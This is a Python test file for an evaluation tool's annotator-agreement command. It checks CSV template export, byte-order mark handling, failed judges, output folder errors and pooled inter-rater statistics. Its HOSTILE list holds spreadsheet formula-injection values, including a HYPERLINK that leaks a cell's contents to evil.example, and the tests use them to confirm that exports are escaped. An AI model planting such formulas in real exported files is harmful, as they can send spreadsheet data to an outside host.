"""``lm-eval-fin agreement`` at its edges, through the console script: text a spreadsheet would
run, a spreadsheet's byte-order mark, a judge that failed everywhere, output folders that
cannot take the files, and many annotators (pooled)."""

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest
from scipy import stats as scipy_stats
from sklearn.metrics import cohen_kappa_score

from lm_eval_fin.text.csvtext import FORMULA_STARTS
from tests.judged_runs import lfqa_doc, write_run
from tests.test_agreement import CRITERIA, SCORES, judged_runs, label_lines, strict_json, write_lines

SCRIPT = Path(sys.executable).parent / "lm-eval-fin"


def agreement(*argv) -> subprocess.CompletedProcess:
    return subprocess.run([SCRIPT, "agreement", "--resamples", "30", *map(str, argv)], capture_output=True, text=True,
                          timeout=180)


def fill(template: Path, filled: Path, encoding: str = "utf-8") -> int:
    """The template CSV as an annotator saves it: every answer rated 4, 3, 5 by a1."""
    with open(template, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row.update(annotator="a1", accuracy="4", numerical_correctness="3", evidence_entailment="5")
    rows[0]["accuracy"] = "2"
    with open(filled, "w", encoding=encoding, newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return len(rows)


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+2", "-2-3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", "'=already quoted"]


def test_the_template_csv_escapes_formulas_and_reads_back(tmp_path):
    runs = tmp_path / "runs"
    docs = [lfqa_doc(text if i % 2 else f"q{i}", text, SCORES["alpha"][i % 6]) for i, text in enumerate(HOSTILE)]
    write_run(runs, "fin_lfqa", "alpha", "openai:http://127.0.0.1:1/v1#judge-a", docs)
    done = agreement("--template", len(HOSTILE), runs, "--output_path", tmp_path / "t")
    assert done.returncode == 0, done.stderr
    with open(tmp_path / "t" / "labels_template.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == len(HOSTILE) + 1
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]  # a spreadsheet shows every cell as text
    header = rows[0]
    answers = sorted(row[header.index("answer")] for row in rows[1:])
    assert answers == sorted("'" + text for text in HOSTILE)  # shown as they are, one quote before
    # the ids come back as they were: the filled-in CSV is a label file as it stands
    assert fill(tmp_path / "t" / "labels_template.csv", tmp_path / "filled.csv") == len(HOSTILE)
    done = agreement(runs, "--labels", tmp_path / "filled.csv", "--output_path", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    [comparison] = strict_json(tmp_path / "out" / "agreement.json")["comparisons"]
    assert comparison["criteria"]["accuracy"]["n"] == len(HOSTILE)


def test_a_label_csv_with_a_byte_order_mark_is_read(tmp_path):
    runs = judged_runs(tmp_path / "runs")
    assert agreement("--template", 12, runs, "--output_path", tmp_path / "t").returncode == 0
    fill(tmp_path / "t" / "labels_template.csv", tmp_path / "excel.csv", encoding="utf-8-sig")  # "CSV UTF-8"
    assert (tmp_path / "excel.csv").read_bytes().startswith(b"\xef\xbb\xbftask,")
    done = agreement(runs, "--labels", tmp_path / "excel.csv", "--output_path", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    assert "unknown column" not in done.stderr
    [comparison] = strict_json(tmp_path / "out" / "agreement.json")["comparisons"]
    assert comparison["criteria"]["accuracy"]["n"] == 12


def test_a_judge_that_gave_no_value_is_a_failure(tmp_path):
    failed = {(model, i) for model in SCORES for i in range(6)}
    runs = judged_runs(tmp_path / "runs", failed=failed)  # every judging timed out
    labels = write_lines(tmp_path / "labels.jsonl", label_lines())
    done = agreement(runs, "--labels", labels, "--output_path", tmp_path / "out")
    assert done.returncode == 1, done.stderr
    assert "gave no value on any of its answers" in done.stderr and "not computed" not in done.stdout
    [comparison] = strict_json(tmp_path / "out" / "agreement.json")["comparisons"]
    assert comparison["skipped"]["accuracy"]["unjudged"] == 12 and comparison["criteria"]["accuracy"]["n"] == 0
    # nothing to draw a template from: every label would be compared with nothing
    done = agreement("--template", 5, runs, "--output_path", tmp_path / "t")
    assert done.returncode == 2 and "no answer to draw" in done.stderr
    assert not (tmp_path / "t" / "labels_template.csv").exists()


def test_the_template_draws_only_judged_answers(tmp_path):
    runs = judged_runs(tmp_path / "runs", failed={("alpha", 0), ("beta", 3)})
    done = agreement("--template", 12, runs, "--output_path", tmp_path / "t")
    assert done.returncode == 0, done.stderr
    assert "2 answers left out of the draw" in done.stderr and "only 10 answers" in done.stderr
    lines = [json.loads(line) for line in (tmp_path / "t" / "labels_template.jsonl").read_text().splitlines()]
    answers = {line["answer"] for line in lines}
    assert len(lines) == 10 and "alpha says 0" not in answers and "beta says 3" not in answers
    assert lines[0]["labels"] == dict.fromkeys(CRITERIA)


def test_output_folder_problems_are_found_before_work(tmp_path):
    runs = judged_runs(tmp_path / "runs")
    labels = write_lines(tmp_path / "labels.jsonl", label_lines())
    a_file = tmp_path / "taken"
    a_file.write_text("not a folder", encoding="utf-8")
    for argv in ((runs, "--labels", labels, "--output_path", a_file),
                 ("--template", 3, runs, "--output_path", a_file),
                 (runs, "--labels", labels, "--output_path", a_file / "below")):
        done = agreement(*argv)
        assert done.returncode == 2, done.stderr
        assert done.stdout == "" and done.stderr.count("\n") == 1 and str(a_file) in done.stderr
        assert a_file.read_text(encoding="utf-8") == "not a folder"
    (tmp_path / "out" / "agreement.json").mkdir(parents=True)
    done = agreement(runs, "--labels", labels, "--output_path", tmp_path / "out")
    assert done.returncode == 2 and done.stdout == "" and "agreement.json there is a folder" in done.stderr


def test_annotators_are_pooled_unless_pairwise_is_asked(tmp_path):
    """8 annotators: two pooled comparisons (not 8 + 28), their figures those of scipy and
    scikit-learn on the pooled units; --pairwise adds each annotator and each pair."""
    runs = judged_runs(tmp_path / "runs")
    lines = []
    for a in range(8):
        for line in label_lines(annotator=f"a{a}"):
            line["labels"]["accuracy"] = max(1, min(5, line["labels"]["accuracy"] + (a + len(lines)) % 3 - 1))
            lines.append(line)
    labels = write_lines(tmp_path / "labels.jsonl", lines)
    done = agreement(runs, "--labels", labels, "--output_path", tmp_path / "pooled")
    assert done.returncode == 0, done.stderr
    comparisons = strict_json(tmp_path / "pooled" / "agreement.json")["comparisons"]
    assert [c["kind"] for c in comparisons] == ["judge vs people", "judge vs annotator", "annotator vs annotator"]
    assert len(done.stdout.splitlines()) < 40
    judge = {(line["model"], line["id"]): SCORES[line["model"]][int(line["id"][1:])][0] for line in lines}
    people = [line["labels"]["accuracy"] for line in lines]
    judged = [judge[line["model"], line["id"]] for line in lines]
    each = comparisons[1]["criteria"]["accuracy"]
    assert comparisons[1]["reference"] == "annotators (each of 8, pooled)"
    assert each["n"] == 96 and each["clusters"] == 12
    assert each["pearson"]["value"] == pytest.approx(scipy_stats.pearsonr(people, judged).statistic)
    assert each["kendall"]["value"] == pytest.approx(scipy_stats.kendalltau(people, judged).statistic)
    assert each["kappa"]["value"] == pytest.approx(
        cohen_kappa_score(people, judged, labels=[1, 2, 3, 4, 5], weights="quadratic"))
    # every pair of two annotators' ratings of one answer, in both orders
    by_answer: dict[tuple[str, str], list[int]] = {}
    for line in lines:
        by_answer.setdefault((line["model"], line["id"]), []).append(line["labels"]["accuracy"])
    first = [r[i] for r in by_answer.values() for i in range(8) for j in range(8) if i != j]
    second = [r[j] for r in by_answer.values() for i in range(8) for j in range(8) if i != j]
    pairs = comparisons[2]["criteria"]["accuracy"]
    assert pairs["n"] == 12 * 28 and pairs["bias"]["value"] is None
    assert pairs["pearson"]["value"] == pytest.approx(scipy_stats.pearsonr(first, second).statistic)
    assert pairs["spearman"]["value"] == pytest.approx(scipy_stats.spearmanr(first, second).statistic)
    assert pairs["kappa"]["value"] == pytest.approx(
        cohen_kappa_score(first, second, labels=[1, 2, 3, 4, 5], weights="quadratic"))
    assert pairs["pearson"]["low"] <= pairs["pearson"]["value"] <= pairs["pearson"]["high"]

    done = agreement(runs, "--labels", labels, "--output_path", tmp_path / "pairwise", "--pairwise")
    assert done.returncode == 0, done.stderr
    kinds = [c["kind"] for c in strict_json(tmp_path / "pairwise" / "agreement.json")["comparisons"]]
    assert kinds.count("judge vs annotator") == 1 + 8 and kinds.count("annotator vs annotator") == 1 + 28
